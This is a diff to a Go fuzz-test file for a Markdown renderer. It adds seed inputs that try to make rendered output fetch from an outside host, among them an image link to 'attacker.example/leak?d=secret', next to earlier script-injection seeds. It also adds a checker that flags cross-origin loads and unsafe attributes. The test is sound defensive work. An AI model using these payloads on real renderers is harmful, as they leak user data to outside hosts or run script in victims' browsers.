@@ -58,6 +58,29 @@ var markdownSeeds = []string{
 	"<details open ontoggle=alert(1)>",
 	"<base href=\"javascript:/\">",
 	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+	// Fetches from another origin (the Markdown origin policy).
+	"![x](http://attacker.example/leak?d=secret)",
+	"![x](HTTPS://attacker.example/a.png \"t\")",
+	"![x](//attacker.example/a.png)",
+	"![x](\\\\attacker.example/a.png)",
+	"![x](/\\attacker.example/a.png)",
+	"![x](< //attacker.example/a.png>)",
+	"![x](</\t/attacker.example/a.png>)",
+	"![x](data:image/png;base64,iVBORw0KGgo=)",
+	"![x](DATA:image/gif;base64,R0lGOD)",
+	"![x][r]\n\n[r]: http://attacker.example/r.png",
+	"![x][]\n\n[x]: //attacker.example/r.png",
+	"[![x](http://attacker.example/i.png)](http://t.example)",
+	"![![inner](http://a.example/i.png)](data:,x)",
+	"![a [b](http://a.example/)](javascript:x)",
+	"<img src=\"http://attacker.example/i.png\">",
+	"<img srcset=\"http://attacker.example/i.png 2x\">",
+	"<video poster=//attacker.example/p.png></video>",
+	"<table background=http://attacker.example/b.png>",
+	"<p style=\"background:url(http://attacker.example/b.png)\">x</p>",
+	"<http://attacker.example/autolink>",
+	"www.attacker.example/x.png",
+	"![x](/static/ok.png) ![y](img/ok.png)",
 }
 
 // markdownForbidden are the elements that must never come out.
@@ -137,8 +160,101 @@ func markdownScriptURL(v string) bool {
 	return false
 }
 
-// FuzzMarkdown: rendering any Markdown never panics and never yields markup
-// that could run script.
+// markdownLoadAttrs are the attributes whose URL a browser loads without a
+// click (href only on elements other than <a>, which are forbidden anyway).
+var markdownLoadAttrs = map[string]bool{
+	"src": true, "srcset": true, "poster": true, "background": true, "data": true, "lowsrc": true,
+	"dynsrc": true, "xlink:href": true, "imagesrcset": true, "ping": true,
+}
+
+// markdownRemote says what in the output would make the browser fetch from
+// another origin ("" when nothing): a loaded URL that has a scheme or starts
+// with two slashes (after what browsers strip and turn: ASCII whitespace and
+// control characters, backslashes), a srcset or style attribute at all, or a
+// link without rel="noopener nofollow noreferrer".
+func markdownRemote(out string) string {
+	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
+	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
+	if err != nil {
+		return "unparsable output: " + err.Error()
+	}
+	var bad string
+	var walk func(*html.Node)
+	walk = func(n *html.Node) {
+		if bad != "" {
+			return
+		}
+		if n.Type == html.ElementNode {
+			var href, rel string
+			for _, a := range n.Attr {
+				key := strings.ToLower(a.Key)
+				if a.Namespace != "" {
+					key = strings.ToLower(a.Namespace) + ":" + key
+				}
+				switch {
+				case key == "style" || key == "srcset" || key == "imagesrcset":
+					bad = "attribute " + key + "=" + a.Val
+				case markdownLoadAttrs[key] || key == "href" && n.DataAtom != atom.A:
+					if markdownOtherOrigin(a.Val) {
+						bad = "a fetch from another origin: <" + n.Data + " " + key + "=" + a.Val + ">"
+					}
+				case key == "href":
+					href = a.Val
+				case key == "rel":
+					rel = " " + a.Val + " "
+				}
+			}
+			if bad == "" && n.DataAtom == atom.A && href != "" {
+				for _, want := range []string{" noopener ", " nofollow ", " noreferrer "} {
+					if !strings.Contains(rel, want) {
+						bad = "a link without" + want + "in rel: " + href + " rel=" + rel
+					}
+				}
+			}
+		}
+		for c := n.FirstChild; c != nil; c = c.NextSibling {
+			walk(c)
+		}
+	}
+	for _, n := range nodes {
+		walk(n)
+	}
+	return bad
+}
+
+// markdownOtherOrigin says whether a URL, as a browser reads it, may load
+// from another origin: it has a scheme (data: included) or starts with two
+// slashes. Browsers drop tabs and newlines anywhere, trim control characters
+// and spaces at the ends, and read a backslash as a slash.
+func markdownOtherOrigin(v string) bool {
+	v = strings.Map(func(r rune) rune {
+		switch r {
+		case '\t', '\n', '\r':
+			return -1
+		case '\\':
+			return '/'
+		}
+		return r
+	}, v)
+	v = strings.ToLower(strings.TrimFunc(v, func(r rune) bool { return r <= ' ' }))
+	if strings.HasPrefix(v, "//") {
+		return true
+	}
+	for i, r := range v {
+		switch {
+		case r == ':' && i > 0:
+			return true
+		case r >= 'a' && r <= 'z', i > 0 && (r >= '0' && r <= '9' || r == '+' || r == '-' || r == '.'):
+		default:
+			return false
+		}
+	}
+	return false
+}
+
+// FuzzMarkdown: rendering any Markdown never panics, never yields markup
+// that could run script, and never makes the browser fetch from another
+// origin.
 func FuzzMarkdown(f *testing.F) {
 	for _, s := range markdownSeeds {
 		f.Add(s)
@@ -149,7 +265,43 @@ func FuzzMarkdown(f *testing.F) {
 		if why := markdownUnsafe(out); why != "" {
 			t.Fatalf("unsafe output (%s)\nsource: %q\noutput: %q", why, src, out)
 		}
+		if why := markdownRemote(out); why != "" {
+			t.Fatalf("output reaches out (%s)\nsource: %q\noutput: %q", why, src, out)
+		}
 	})
+}
+
+// TestMarkdownRemoteCatches proves the origin checker fails on what it must
+// catch, so that FuzzMarkdown cannot pass by checking nothing.
+func TestMarkdownRemoteCatches(t *testing.T) {
+	for _, out := range []string{
+		`<img src="http://a.example/x.png">`,
+		`<img src="HTTPS://a.example/x.png">`,
+		`<img src="//a.example/x.png">`,
+		`<img src=" \\a.example/x.png">`,
+		`<img src="/\a.example/x.png">`,
+		`<img src="/&#9;/a.example/x.png">`,
+		`<img src="data:image/png;base64,AAAA">`,
+		`<img srcset="/a.png 1x">`,
+		`<video poster="//a.example/p.png"></video>`,
+		`<table background="http://a.example/b.png"></table>`,
+		`<p style="color:red">x</p>`,
+		`<a href="http://a.example/" rel="nofollow">x</a>`,
+		`<a href="/chat/1">x</a>`,
+	} {
+		if markdownRemote(out) == "" {
+			t.Errorf("the checker passes %q", out)
+		}
+	}
+	for _, out := range []string{
+		`<p><img src="/static/a.png" alt="x"> <img src="img/a.png"> <img src="/%5Ca.example/x.png"></p>`,
+		`<a href="http://a.example/" rel="noopener nofollow noreferrer" target="_blank">http://a.example/</a>`,
+		`<a rel="noopener">no href</a>`,
+	} {
+		if why := markdownRemote(out); why != "" {
+			t.Errorf("the checker refuses safe %q: %s", out, why)
+		}
+	}
 }
 
 // TestMarkdownUnsafeCatches proves the checker fails on what it must catch,
